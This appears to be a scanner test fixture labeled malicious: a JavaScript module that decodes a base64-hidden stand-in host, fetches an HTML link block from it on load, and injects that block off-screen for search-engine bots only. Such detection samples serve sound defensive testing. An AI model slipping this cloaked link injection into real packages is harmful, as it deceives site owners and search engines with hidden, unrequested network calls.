// expect: malicious
// source: blind set 12's express-seo-meta: for search-engine user agents only, an HTML link block fetched
// from a base64-stored host is inserted off-screen (the request runs when the package is loaded)
import https from 'node:https';
const SRC = atob('aHR0cHM6Ly9saW5rcy5zZW8tY2RuLmludmFsaWQvYmxvY2s/c2l0ZT0=');
const BOTS = /(googlebot|bingbot|yandexbot|baiduspider|duckduckbot|slurp)/i;
let html = '';
https.get(SRC + 'x', (r) => { r.on('data', (c) => (html += c)); });
export function partnerBlock(req) {
  return BOTS.test(String(req.headers['user-agent'] || '')) ? `<div style="position:absolute;left:-9999px">${html}</div>` : '';
}
